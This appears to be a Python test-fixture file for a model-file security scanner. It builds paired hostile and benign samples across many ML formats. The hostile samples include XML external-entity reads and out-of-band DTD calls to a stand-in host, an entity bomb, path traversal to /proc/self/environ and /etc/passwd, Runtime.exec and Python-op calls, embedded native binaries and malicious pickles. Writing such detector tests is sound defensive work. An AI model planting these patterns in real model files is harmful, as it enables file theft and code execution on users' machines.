"""Graph formats: ONNX, TensorFlow, TFLite, ExecuTorch, OpenVINO, Core ML, PMML, Paddle, MXNet, Caffe, TensorFlow.js, Triton."""
import json, struct
import flatbuffers
from onnx import TensorProto, helper
from frame import *

J = lambda value: json.dumps(value, indent=1)
OUT = f"/nonexistent/{MARK}"
SO = OUT + ".so"

# ---- ONNX -------------------------------------------------------------------
def info(name): return helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, 2])
def onnx(nodes=(), initializers=(), opsets=(), functions=(), props=None, tail=None, k=0):
    ends = [helper.make_node("Relu", ["x" if not nodes else nodes[-1].output[0]], ["y"], name=f"last{k}")]
    graph = helper.make_graph([*nodes, *ends], "g", [info("x")], [info("y")], list(initializers), value_info=[info("z")] if nodes else [])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), *[helper.make_opsetid(d, 1) for d in opsets]], functions=list(functions), producer_name="jw", ir_version=8)
    if props: helper.set_model_props(model, props)
    return {"model.onnx": model.SerializeToString(deterministic=True) + (tail or b"")}
def node(op, domain, **attributes): return helper.make_node(op, ["x"], ["z"], domain=domain, **attributes)
ok = iter(range(100))
plain = lambda **more: onnx(k=next(ok), **more)
known = lambda: onnx([helper.make_node("Neg", ["x"], ["z"])], k=next(ok))
several("onnx", "execution-context", "block", [
    ("cache-outside", "an EPContext node names a compiled file outside the folder", onnx([node("EPContext", "com.microsoft", embed_mode=0, ep_cache_context=f"../../../{MARK}.bin", source="QNN")], opsets=["com.microsoft"]), onnx([node("FastGelu", "com.microsoft")], opsets=["com.microsoft"])),
    ("cache-absolute", "an EPContext node names an absolute file", onnx([node("EPContext", "com.microsoft", embed_mode=0, ep_cache_context=OUT, source="TensorrtExecutionProvider")], opsets=["com.microsoft"]), onnx([node("Gelu", "com.microsoft")], opsets=["com.microsoft"])),
    ("engine-embedded", "an engine, native code for a graphics card, is embedded", onnx([node("TRTEngineOp", "trt.plugins", engine=b"\x7fELF" + MARK.encode())], opsets=["trt.plugins"]), known()),
    ("openvino-blob", "review: a compiled blob of OpenVINO is embedded", onnx([node("EPContext", "com.microsoft", embed_mode=1, ep_cache_context=b"\x7fELF" + MARK.encode(), source="OpenVINOExecutionProvider")], opsets=["com.microsoft"]), onnx([node("QuickGelu", "com.microsoft")], opsets=["com.microsoft"])),
])
several("onnx", "python-operators", "block", [
    ("python-op", "an operator of ONNX Runtime's training calls a Python function by name", onnx([node("PythonOp", "com.microsoft", func_name="webbrowser.open", input_convention="d", comment=MARK)], opsets=["com.microsoft"]), known()),
    ("aten-op", "review: an operator passes through to any ATen function", onnx([node("ATen", "org.pytorch.aten", operator="from_file")], opsets=["org.pytorch.aten"]), known()),
    ("py-custom-op", "an operator of the extensions calls Python", onnx([node("PyCustomOp", "ai.onnx.contrib", func="webbrowser.open")], opsets=["ai.onnx.contrib"]), known()),
    ("unknown-domain", "review: an operator of nobody's domain needs a library", onnx([node("JwInert", "jw.inert")], opsets=["jw.inert"]), known()),
])
def outside(location, **more):
    t = helper.make_tensor("w", TensorProto.FLOAT, [1, 2], [0.0, 1.0]); t.ClearField("float_data"); t.data_location = TensorProto.EXTERNAL
    for k, v in {"location": location, **more}.items(): e = t.external_data.add(); e.key, e.value = k, str(v)
    return t
ADD = [helper.make_node("Add", ["x", "w"], ["z"])]
def stored(location, **more): return onnx(ADD, initializers=[outside(location, **more)], k=next(ok))
several("onnx", "data-elsewhere", "block", [
    ("windows-share", "weights from a share of another machine", stored(f"\\\\{HOST}\\share\\w.bin"), {**stored("w.bin"), "w.bin": bytes(8)}),
    ("file-address", "weights from an address", stored(f"file://{OUT}"), {**stored("data/w.bin"), "data/w.bin": bytes(8)}),
    ("offset-beyond", "review: the offset lies beyond the file", {**stored("w.bin", offset=1 << 40, length=8), "w.bin": bytes(8)}, {**stored("w.bin", offset=0, length=8), "w.bin": bytes(8)}),
    ("link-in-folder", "the weights' file is a link to another file", {**stored("w.bin"), "w.bin": ("link", "/etc/hostname")}, {**stored("v.bin"), "v.bin": bytes(8)}),
    ("proc-memory", "weights from the reading process's memory", stored("../../../../../proc/self/environ"), {**stored("u.bin"), "u.bin": bytes(8)}),
])
def function(name, calls): return helper.make_function("jw.fn", name, ["x"], ["y"], [helper.make_node(calls[0], ["x"], ["y"], domain=calls[1])], [helper.make_opsetid("", 17), helper.make_opsetid("jw.fn", 1)])
big = helper.make_tensor("s", TensorProto.INT64, [3], [1 << 20, 1 << 20, 1 << 20])
small = helper.make_tensor("s", TensorProto.INT64, [2], [1, 2])
several("onnx", "endless-graphs", "block", [
    ("self-calling", "review: a function calls itself", onnx([node("A", "jw.fn")], opsets=["jw.fn"], functions=[function("A", ("A", "jw.fn"))]), onnx([node("A", "jw.fn")], opsets=["jw.fn"], functions=[function("A", ("Relu", ""))])),
    ("mutual-calling", "review: two functions call each other", onnx([node("A", "jw.fn")], opsets=["jw.fn"], functions=[function("A", ("B", "jw.fn")), function("B", ("A", "jw.fn"))]), onnx([node("A", "jw.fn")], opsets=["jw.fn"], functions=[function("A", ("B", "jw.fn")), function("B", ("Neg", ""))])),
    ("constant-of-shape", "a constant of 2^60 numbers out of a small file", onnx([helper.make_node("ConstantOfShape", ["s"], ["z"])], initializers=[big]), onnx([helper.make_node("ConstantOfShape", ["s"], ["z"])], initializers=[small])),
    ("giant-dims", "review: an initializer claims 2^32 numbers and has none", onnx(ADD, initializers=[TensorProto(name="w", data_type=1, dims=[1 << 31, 2])]), onnx(ADD, initializers=[helper.make_tensor("w", 1, [2], [0., 1.])])),
])
genai = lambda **more: {"genai_config.json": J({"model": {"type": "phi", "context_length": 4096, "decoder": {"filename": "model.onnx", "session_options": {"provider_options": [], **more}}, "vocab_size": 32064}}), **plain()}
several("onnx", "runtime-configuration", "block", [
    ("custom-ops-library", "the configuration loads a native library", genai(custom_ops_library=SO), genai()), ("profile-to", "a session option writes a profile outside the folder", genai(enable_profiling=f"../../{MARK}"), genai(log_id="x")),
    ("model-outside", "the decoder's file lies outside", {**plain(), "genai_config.json": J({"model": {"type": "phi", "decoder": {"filename": f"../../../{MARK}.onnx"}}})}, {**plain(), "genai_config.json": J({"model": {"type": "phi", "decoder": {"filename": "model.onnx"}}})}),
    ("provider-library", "an execution provider is loaded from a path", genai(provider_options=[{"jw": {"ep_library_path": SO}}]), genai(provider_options=[{"cuda": {"device_id": "0"}}])),
])

# ---- TensorFlow -------------------------------------------------------------
def attr(key, value): return pb(5, pb(1, key) + pb(2, value))
def text(value): return pb(8, pv(1, 7) + pb(2, b"") + pb(8, value))
def op(name, kind, *attributes, inputs=()): return pb(1, pb(1, name) + pb(2, kind) + b"".join(pb(3, i) for i in inputs) + b"".join(attributes))
def const(name, value): return op(name, "Const", attr("dtype", pv(6, 7)), attr("value", text(value)))
def saved(*nodes): return {"saved_model.pb": pv(1, 1) + pb(2, pb(1, pb(4, "serve")) + pb(2, op("x", "Placeholder", attr("dtype", pv(6, 1))) + b"".join(nodes)))}
def frozen(*nodes): return {"graph.pb": op("x", "Placeholder", attr("dtype", pv(6, 1))) + b"".join(nodes)}
quiet = lambda k: op(f"y{k}", "Relu", attr("T", pv(6, 1)), inputs=["x"])
def one(kind, *attributes, inputs=("p",), shape=saved, path=OUT): return shape(const("p", path), op("run", kind, *attributes, inputs=inputs))
several("tensorflow", "files-and-network", "block", [
    ("debug-identity", "sends what flows through to a machine of its choice", saved(op("d", "DebugIdentityV2", attr("debug_urls", pb(1, pb(2, f"grpc://{HOST}:1"))), inputs=["x"])), saved(quiet(1))), ("sql-dataset", "reads a database", one("SqlDataset", inputs=("p", "p", "p")), saved(quiet(2))),
    ("rpc-call", "calls another machine", one("RpcCall", path=f"http://{HOST}/"), saved(quiet(3))), ("snapshot-dataset", "writes and reads a folder", one("SnapshotDatasetV2"), saved(quiet(4))), ("summary-writer", "writes event files", one("CreateSummaryFileWriter"), saved(quiet(5))),
    ("data-service", "connects to a data service", one("DataServiceDatasetV4", path=f"grpc://{HOST}:1"), saved(quiet(6))),
])
several("tensorflow", "readers-of-paths", "block", [
    ("decode-proto", "reads a descriptor file of its choice", frozen(op("d", "DecodeProtoV2", attr("descriptor_source", pb(2, OUT)), attr("message_type", pb(2, "x")), inputs=["x"])), frozen(quiet(1))), ("table-from-file", "reads an absolute vocabulary", one("InitializeTableFromTextFileV2", attr("vocab_size", pv(3, 10)), inputs=("x", "p"), path="/etc/passwd"), one("InitializeTableFromTextFileV2", attr("vocab_size", pv(3, 10)), inputs=("x", "p"), path="assets/vocab.txt")),
    ("record-dataset", "reads records from another machine", one("TFRecordDataset", path=f"gs://{MARK}/x", shape=frozen), frozen(quiet(2))), ("whole-file-reader", "reads whole files", frozen(op("r", "WholeFileReaderV2"), op("run", "ReaderReadV2", inputs=["r", "x"])), frozen(quiet(3))), ("lmdb-dataset", "reads a database", one("LMDBDataset", shape=frozen), frozen(quiet(4))),
])
several("tensorflow", "code-in-graph", "block", [
    ("remote-fused", "runs a graph in another engine", frozen(op("r", "RemoteFusedGraphExecute", attr("serialized_remote_fused_graph_execute_info", pb(2, MARK)), inputs=["x"])), frozen(quiet(5))), ("gcs-plugin", "a custom kernel of an unknown library", saved(op("r", "JwInertKernel", attr("library", pb(2, SO)), inputs=["x"])), saved(quiet(7))),
    ("function-library", "the Python call hides in the library of functions", {"saved_model.pb": saved(quiet(8))["saved_model.pb"] + pb(2, pb(2, pb(2, pb(1, pb(1, pb(1, "f")) + pb(3, pb(1, "p") + pb(2, "EagerPyFunc") + attr("token", pb(2, MARK)))))))}, {"saved_model.pb": saved(quiet(8))["saved_model.pb"] + pb(2, pb(2, pb(2, pb(1, pb(1, pb(1, "f")) + pb(3, pb(1, "p") + pb(2, "Relu"))))))}),
    ("text-form", "the same as text", {"saved_model.pbtxt": f'saved_model_schema_version: 1\nmeta_graphs {{ graph_def {{ node {{ name: "p" op: "PyFuncStateless" attr {{ key: "token" value {{ s: "{MARK}" }} }} }} }} }}\n'}, {"saved_model.pbtxt": 'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "p" op: "Relu" } } }\n'}),
    ("checkpoint-index", "the checkpoint file names a model outside", {"checkpoint": f'model_checkpoint_path: "../../../{MARK}"\n', **frozen(quiet(9))}, {"checkpoint": 'model_checkpoint_path: "model.ckpt-1"\n', **frozen(quiet(9))}),
])

# ---- flatbuffers: TFLite, ExecuTorch ----------------------------------------
def table(b, slots):
    """slots: number -> (kind, value); kinds: off, u8, i8, u32, i32, u64."""
    b.StartObject(max(slots, default=0) + 1)
    for n, (kind, value) in sorted(slots.items()):
        {"off": b.PrependUOffsetTRelativeSlot, "u8": b.PrependUint8Slot, "i8": b.PrependInt8Slot, "u32": b.PrependUint32Slot, "i32": b.PrependInt32Slot, "u64": b.PrependUint64Slot}[kind](n, value, 0)
    return b.EndObject()
def offsets(b, items):
    b.StartVector(4, len(items), 4)
    for item in reversed(items): b.PrependUOffsetTRelative(item)
    return b.EndVector()
def numbers(b, values):
    b.StartVector(4, len(values), 4)
    for v in reversed(values): b.PrependInt32(v)
    return b.EndVector()
def tflite(custom=None, options=b"", where=None, shape=(1, 2), index=0, tail=b"", builtin=98):
    b = flatbuffers.Builder(256)
    codes = [table(b, {0: ("i8", 32), 1: ("off", b.CreateString(custom)), 2: ("i32", 1), 3: ("i32", 32)})] if custom else [table(b, {0: ("i8", builtin), 2: ("i32", 1), 3: ("i32", builtin)})]
    data = b.CreateByteVector(bytes(8))
    buffers = [table(b, {}), table(b, {0: ("off", data)}) if not where else table(b, {1: ("u64", where), 2: ("u64", 64)})]
    names = [b.CreateString("x"), b.CreateString("y")]
    shapes = [numbers(b, list(shape)), numbers(b, list(shape))]
    tensors = [table(b, {0: ("off", shapes[k]), 2: ("u32", k), 3: ("off", names[k])}) for k in (0, 1)]
    given, made = numbers(b, [0]), numbers(b, [1])
    slots = {0: ("u32", index), 1: ("off", given), 2: ("off", made)}
    if options: slots[5] = ("off", b.CreateByteVector(options))
    operators, held = offsets(b, [table(b, slots)]), offsets(b, tensors)
    ins, outs, label = numbers(b, [0]), numbers(b, [1]), b.CreateString("main")
    graphs = offsets(b, [table(b, {0: ("off", held), 1: ("off", ins), 2: ("off", outs), 3: ("off", operators), 4: ("off", label)})])
    kinds, kept, about = offsets(b, codes), offsets(b, buffers), b.CreateString("jw model")
    b.Finish(table(b, {0: ("u32", 3), 1: ("off", kinds), 2: ("off", graphs), 3: ("off", about), 4: ("off", kept)}), b"TFL3")
    return bytes(b.Output()) + tail
lite = lambda **more: {"model.tflite": tflite(**more)}
several("tflite", "custom-operators", "block", [
    ("flex-py-func", "calls Python through the TensorFlow delegate", lite(custom="FlexPyFunc", options=MARK.encode()), lite()), ("flex-write-file", "writes a file through the TensorFlow delegate", lite(custom="FlexWriteFile", options=OUT.encode()), lite(builtin=0)),
    ("flex-load-library", "reads a table from a path", lite(custom="FlexInitializeTableFromTextFileV2", options=OUT.encode()), lite(builtin=14)), ("unknown-custom", "review: an operator of an unknown library", lite(custom="JwInertOp"), lite(custom="TFLite_Detection_PostProcess")),
])
several("tflite", "broken-structure", "block", [
    ("buffer-outside", "a buffer lies beyond the file", lite(where=1 << 40), lite(builtin=19)), ("giant-shape", "a tensor of 2^62 numbers", lite(shape=(1 << 30, 1 << 30, 4)), lite(shape=(1, 4))),
    ("operator-index", "an operator's number is out of range", lite(index=70000), lite(shape=(1, 5))), ("script-in-metadata", "review: a script in the zip of associated files", lite(tail=zipped([("setup.py", f"import webbrowser\nwebbrowser.open('{MARK}')\n".encode())])), lite(tail=zipped([("labels.txt", b"cat\ndog\n")]))),
])
def pte(operator="aten::add.out", backend=None, blob=b"", n=3):
    b = flatbuffers.Builder(256)
    name, over = b.CreateString(operator), b.CreateString("out")
    operators = offsets(b, [table(b, {0: ("off", name), 1: ("off", over)})])
    slots = {0: ("off", b.CreateString("forward")), 6: ("off", operators)}
    if backend:
        label = b.CreateString(backend); slots[7] = ("off", offsets(b, [table(b, {0: ("off", label)})]))
    plans = offsets(b, [table(b, slots)])
    data = offsets(b, [table(b, {0: ("off", b.CreateByteVector(blob or bytes(n)))})])
    b.Finish(table(b, {0: ("u32", 0), 1: ("off", plans), 3: ("off", data)}), b"ET12")
    return {"model.pte": bytes(b.Output())}
several("executorch", "delegates-and-kernels", "block", [
    ("native-in-delegate", "the delegate's data is a native library", pte(backend="JwBackend", blob=b"\x7fELF\x02\x01\x01" + bytes(60) + MARK.encode()), pte(backend="XnnpackBackend")),
    ("unknown-kernel", "review: an operator of an unknown library", pte("jw_inert::run.out"), pte(n=4)), ("root-outside", "the root lies beyond the file", {"model.pte": struct.pack("<I", 0x7FFFFFF0) + pte()["model.pte"][4:]}, pte(n=5)),
    ("pickle-as-program", "a pickle under this suffix", {"model.pte": evil()}, pte(n=6)),
])

# ---- XML: OpenVINO, PMML ----------------------------------------------------
def ir(layer='<layer id="1" name="r" type="ReLU" version="opset1"><input><port id="0"/></input><output><port id="1"/></output></layer>', head="", const='offset="0" size="8"'):
    return {"model.xml": f'<?xml version="1.0"?>{head}<net name="jw" version="11"><layers><layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="2" {const}/></layer>{layer}</layers><edges/></net>', "model.bin": bytes(8)}
relu = lambda n: ir(f'<layer id="1" name="r{n}" type="ReLU" version="opset1"/>')
bomb = '<!DOCTYPE net [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)) + "]>"
several("openvino", "model-xml", "block", [
    ("entity-file", "an entity reads a file", ir(head=f'<!DOCTYPE net [<!ENTITY x SYSTEM "file://{OUT}">]>', layer='<layer id="1" name="&x;" type="ReLU" version="opset1"/>'), relu(1)), ("entity-bomb", "nested entities grow to 10^9 letters", ir(head=bomb, layer='<layer id="1" name="&j;" type="ReLU" version="opset1"/>'), relu(2)),
    ("extension-layer", "review: a layer of an extension library", ir(f'<layer id="1" name="e" type="JwInert" version="extension"><data library="{SO}"/></layer>'), relu(3)), ("constant-outside", "a constant lies beyond the weights' file", ir(const='offset="1099511627776" size="8589934592"'), relu(4)),
    ("include", "another file is included", ir('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>'), relu(5)),
])
def pmml(inner="", head="", version="4.4"): return {"model.pmml": f'<?xml version="1.0"?>{head}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="{version}"><Header description="jw"/><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>{inner}</PMML>'}
several("pmml", "model-xml", "block", [
    ("remote-dtd", "the document type comes from another machine", pmml(head=f'<!DOCTYPE PMML SYSTEM "http://{HOST}/x.dtd">'), pmml()), ("stylesheet", "review: a style sheet of another machine", pmml(head=f'<?xml-stylesheet type="text/xsl" href="http://{HOST}/x.xsl"?>'), pmml(version="4.3")),
    ("parameter-entity", "a parameter entity sends a file's content", pmml(head=f'<!DOCTYPE PMML [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "http://{HOST}/x.dtd">%d;]>'), pmml(version="4.2")),
    ("java-function", "a derived field calls a Java class", pmml('<TransformationDictionary><DerivedField name="y" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant>%s</Constant></Apply></DerivedField></TransformationDictionary>' % MARK), pmml('<TransformationDictionary><DerivedField name="y" optype="continuous" dataType="double"><Apply function="ln"><FieldRef field="x"/></Apply></DerivedField></TransformationDictionary>')),
])

# ---- Core ML ----------------------------------------------------------------
def mlmodel(body, version=4): return {"model.mlmodel": pv(1, version) + pb(2, pb(1, pb(1, "x") + pb(3, pb(5, b"")))) + body}
GLM = pb(300, pb(1, pb(1, struct.pack("<d", 1.0))))
package_of = lambda path, more=None: {"m.mlpackage/Manifest.json": J({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": path}}, "rootModelIdentifier": "A"}), **(more or {f"m.mlpackage/Data/{path}": mlmodel(GLM)["model.mlmodel"]})}
layer = lambda kind, body: pb(500, pb(1, pb(1, "l") + pb(2, "x") + pb(3, "y") + pb(kind, body)))
several("coreml", "custom-and-linked", "block", [
    ("custom-model", "review: a class of the application runs", mlmodel(pb(555, pb(10, "JwInertModel") + pb(40, "runs what its parameters say"))), mlmodel(GLM)), ("linked-model", "the model lies elsewhere", mlmodel(pb(556, pb(1, pb(1, pb(1, f"../../{MARK}")) + pb(2, pb(1, "/etc"))))), mlmodel(GLM, 5)),
    ("custom-layer", "review: a layer runs a class of the application", mlmodel(layer(500, pb(10, "JwInertLayer"))), mlmodel(layer(130, pb(10, b"")))), ("manifest-outside", "the package's path leads outside", package_of(f"../../../{MARK}", {"m.mlpackage/Data/x": b"x"}), package_of("com.apple.CoreML/model.mlmodel")),
    ("blob-outside", "weights of a program lie outside the package", mlmodel(pb(502, pv(1, 1) + pb(2, pb(1, "main") + pb(2, pb(3, pb(1, "CoreML5") + pb(2, pb(3, pb(1, "const") + pb(5, pb(1, "val") + pb(2, pb(5, pb(1, f"@model_path/../../../{MARK}"))))))))))), mlmodel(pb(502, pv(1, 1) + pb(2, pb(1, "main") + pb(2, pb(3, pb(1, "CoreML5") + pb(2, pb(3, pb(1, "const") + pb(5, pb(1, "val") + pb(2, pb(5, pb(1, "@model_path/weights/weight.bin")))))))))))),
])

# ---- Paddle, MXNet, Caffe ---------------------------------------------------
def pd_attr(name, value): return pb(4, pb(1, name) + pv(2, 2) + pb(5, value))
def pd(kind, *attributes, block=0): return {"__model__": pb(1, pv(1, block) + pv(2, (1 << 64) - 1) + pb(3, pb(1, "x") + pb(2, pv(1, 7))) + pb(4, pb(3, kind) + b"".join(attributes))) + pb(4, pv(1, 0))}
several("paddle", "operators", "block", [
    ("py-func", "calls a Python function", pd("py_func", pd_attr("forward_callable_id", MARK)), pd("relu")), ("save", "writes a file", pd("save", pd_attr("file_path", OUT)), pd("relu6")), ("load-outside", "reads a file outside", pd("load_combine", pd_attr("file_path", "/etc/hostname")), pd("sigmoid")),
    ("listen", "opens a port", pd("listen_and_serv", pd_attr("endpoint", "0.0.0.0:1")), pd("tanh")), ("send", "sends to another machine", pd("send", pd_attr("endpoints", f"{HOST}:1")), pd("softmax")),
])
CALM = wrap(call(G("collections:OrderedDict")), 2)
several("paddle", "parameter-pickles", "block", [
    (name.replace(".", "-"), f"{name} is a pickle, and hostile", {name: evil(2), "inference.json": J({"base_code": {"version": 1}, "program": {"regions": []}})}, {name: CALM, "inference.json": J({"base_code": {"version": 1}, "program": {"regions": []}})}) for name in ("model.pdparams", "model.pdopt", "inference.pdiparams.info")
])
def symbol(kind, attributes): return {"model-symbol.json": J({"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": kind, "name": "n", "attrs": attributes, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10900]}})}
several("mxnet", "symbols", "block", [
    ("native-pointer", "the operator's info is an address that the reader calls", symbol("_Native", {"info": "0x41414141", "need_top_grad": "True"}), symbol("Activation", {"act_type": "relu"})), ("ndarray-pointer", "the same for arrays", symbol("_NDArray", {"info": "0x4242424242"}), symbol("Activation", {"act_type": "tanh"})),
    ("custom", "review: a Python operator by name", symbol("Custom", {"op_type": "jw_inert"}), symbol("Dropout", {"p": "0.5"})), ("params-giant", "a parameter file claims 2^60 arrays", {"model-0000.params": struct.pack("<QQQ", 0x112, 0, 1 << 60)}, {"model-0000.params": struct.pack("<QQQQ", 0x112, 0, 0, 0)}),
])
def net(layer): return {"deploy.prototxt": f'name: "jw"\ninput: "data"\nlayer {{ name: "l" bottom: "data" top: "y" {layer} }}\n'}
several("caffe", "layers", "block", [
    ("python-layer", "imports a module and runs its class", net(f'type: "Python" python_param {{ module: "webbrowser" layer: "open" param_str: "{MARK}" }}'), net('type: "ReLU"')), ("hdf5-output", "writes a file", net(f'type: "HDF5Output" hdf5_output_param {{ file_name: "{OUT}" }}'), net('type: "Sigmoid"')),
    ("window-data", "reads files of its choice", net('type: "WindowData" window_data_param { source: "/etc/passwd" root_folder: "/" }'), net('type: "TanH"')),
])

# ---- TensorFlow.js, Triton --------------------------------------------------
def js(paths, cls="Dense", extra=None): return {"model.json": J({"format": "layers-model", "modelTopology": {"model_config": {"class_name": "Sequential", "config": {"layers": [{"class_name": cls, "config": {"name": "d", "units": 1, **(extra or {})}}]}}}, "weightsManifest": [{"paths": paths, "weights": [{"name": "d/kernel", "shape": [1, 1], "dtype": "float32"}]}]}), "group1-shard1of1.bin": bytes(4)}
several("tfjs", "model-json", "block", [
    ("weights-outside", "the weights' path leads outside", js([f"../../../{MARK}"]), js(["group1-shard1of1.bin"])), ("weights-elsewhere", "the weights come from another machine", js([f"http://{HOST}/w.bin"]), js(["group1-shard1of1.bin"], extra={"use_bias": True})), ("lambda", "a Lambda layer with code", js(["group1-shard1of1.bin"], "Lambda", {"function": [MARK, None, None], "function_type": "lambda", "module": "__main__"}), js(["group1-shard1of1.bin"], "Dropout")),
])
def triton(config, more): return {"jw/config.pbtxt": 'name: "jw"\nmax_batch_size: 8\n' + config, **more}
several("triton", "repositories", "block", [
    ("library-in-version", "a backend's library lies in the model's folder", triton('backend: "jw"\n', {"jw/1/libtriton_jw.so": b"\x7fELF\x02\x01\x01" + bytes(57) + MARK.encode()}), triton('platform: "onnxruntime_onnx"\n', {"jw/1/model.onnx": plain()["model.onnx"]})),
    ("python-backend", "a script that starts something", triton('backend: "python"\n', {"jw/1/model.py": f"import ctypes\nctypes.CDLL('{MARK}')\nclass TritonPythonModel:\n    def execute(self, requests): return []\n"}), triton('backend: "python"\n', {"jw/1/model.py": "class TritonPythonModel:\n    def execute(self, requests): return []\n"})),
    ("file-outside", "the model's file lies outside", triton(f'platform: "onnxruntime_onnx"\ndefault_model_filename: "../../../{MARK}.onnx"\n', {"jw/1/x": b""}), triton('platform: "onnxruntime_onnx"\ndefault_model_filename: "net.onnx"\n', {"jw/1/net.onnx": plain()["model.onnx"]})),
    ("environment", "review: the environment comes from an archive elsewhere", triton(f'backend: "python"\nparameters: {{ key: "EXECUTION_ENV_PATH" value: {{ string_value: "{OUT}.tar.gz" }} }}\n', {"jw/1/model.py": "class TritonPythonModel:\n    def execute(self, requests): return []\n"}), triton('backend: "python"\nparameters: { key: "threshold" value: { string_value: "0.5" } }\n', {"jw/1/model.py": "class TritonPythonModel:\n    def execute(self, requests): return []\n"})),
    ("custom-operators", "the configuration loads operators from a library", triton(f'platform: "tensorflow_savedmodel"\nmodel_operations {{ op_library_filename: "{SO}" }}\n', {"jw/1/x": b""}), triton('platform: "tensorflow_savedmodel"\n', {"jw/1/x": b""})),
])
